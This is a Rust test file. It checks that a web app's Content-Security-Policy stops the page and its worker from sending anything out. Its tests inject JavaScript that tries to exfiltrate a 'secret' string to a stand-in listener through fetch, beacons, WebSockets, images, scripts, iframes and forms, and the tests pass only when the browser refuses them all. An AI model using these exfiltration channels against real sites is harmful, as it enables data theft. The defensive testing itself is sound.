//! "The page has no way to send anything": the browser itself holds it to that, whatever its code may do.
//!
//! Every visit checks that the page asked for nothing but its own files. Here code is put into it that tries, and a listener
//! on another port waits for what gets out.

use std::io::Read;
use std::net::{SocketAddr, TcpListener};
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};

use crate::server::is_built_from;
use crate::visit::{Visit, visit};

#[test]
fn the_page_names_its_policy_before_anything_it_loads() -> Result<()> {
    visit(|page| {
        page.open()?;
        let script = "
            const loads = document.head.querySelector('script, link[href]');
            const policy = document.head.querySelector('meta[http-equiv=Content-Security-Policy]');
            return policy && policy.compareDocumentPosition(loads) & Node.DOCUMENT_POSITION_FOLLOWING ? policy.content : ''";
        let policy = page.browser.run(script, json!([]))?.as_str().unwrap_or_default().to_owned();
        for part in [
            "default-src 'none'",
            "connect-src 'self'",
            "worker-src 'self' blob:;",
            "manifest-src 'self';",
            "base-uri 'none'",
            "form-action 'none'",
        ] {
            ensure!(policy.contains(part), "the policy lacks {part}: {policy}");
        }
        for hole in ["'unsafe-inline'", "'unsafe-eval'", "*", "http:", "https:"] {
            ensure!(!policy.contains(hole), "the policy allows {hole}: {policy}");
        }
        Ok(())
    })
}

#[test]
fn the_browser_lets_the_page_send_nothing() -> Result<()> {
    let outside = Outside::new()?;
    Visit::default().tolerating(outside.place()).run(|page| {
        page.open()?;
        let script = "
            const url = arguments[0];
            const refused = window.refused = [];
            addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
            const attempts = [
                () => fetch(url),
                () => navigator.sendBeacon(url, 'secret'),
                () => new WebSocket(url.replace('http', 'ws')),
                () => new EventSource(url),
                () => { new Image().src = url; },
                () => document.head.append(Object.assign(document.createElement('script'), { src: url })),
                () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
                () => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
                () => {
                    const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
                    document.body.append(form);
                    form.submit();
                },
            ];
            for (const attempt of attempts) {
                try { Promise.resolve(attempt()).catch(() => {}); } catch { /* refused at once */ }
            }
            ";
        page.browser.run(script, json!([outside.url()]))?;
        let kinds = ["connect-src", "form-action", "frame-src", "img-src", "script-src-elem", "style-src-elem"];
        let mut refused = Value::Null;
        let waited = page.wait_for("every kind of request to be refused", || {
            refused = page.browser.run("return window.refused", json!([]))?;
            let is_refused = |kind: &&str| refused.as_array().is_some_and(|refused| refused.iter().any(|one| one == kind));
            Ok(kinds.iter().all(is_refused))
        });
        waited.with_context(|| format!("refused were only {refused}"))?;
        outside.heard_nothing()
    })
}

#[test]
fn the_browser_lets_the_worker_send_nothing() -> Result<()> {
    let outside = Outside::new()?;
    let attempt = format!("fetch('{}').catch(() => {{}});\n", outside.url()).into_bytes();
    let visit = Visit::default().served(move |name, bytes| {
        let more: &[u8] = if is_built_from(name, "worker-boot", ".js") { &attempt } else { b"" };
        Some([more, &bytes[..]].concat())
    });
    visit.tolerating(outside.place()).run(|page| {
        page.open()?;
        let place = outside.place();
        page.wait_for("the browser to refuse the worker", || {
            Ok(page.browser.console()?.iter().any(|line| line.message.contains(&place)))
        })?;
        outside.heard_nothing()
    })
}

/// Someone who listens where the page must not speak.
struct Outside {
    listener: TcpListener,
    address: SocketAddr,
}

impl Outside {
    fn new() -> Result<Outside> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        listener.set_nonblocking(true)?;
        let address = listener.local_addr()?;
        Ok(Outside { listener, address })
    }

    fn url(&self) -> String {
        format!("http://{}/", self.address)
    }

    /// As complaints about an attempt name it.
    fn place(&self) -> String {
        self.address.to_string()
    }

    /// A browser may open a connection before it asks the policy, and then close it unused: only bytes are heard.
    fn heard_nothing(&self) -> Result<()> {
        while let Ok((mut connection, _)) = self.listener.accept() {
            connection.set_nonblocking(false)?;
            connection.set_read_timeout(Some(Duration::from_millis(500)))?;
            let mut heard = [0; 200];
            let length = connection.read(&mut heard).unwrap_or(0);
            ensure!(length == 0, "this got out: {}", String::from_utf8_lossy(&heard[..length]));
        }
        Ok(())
    }
}
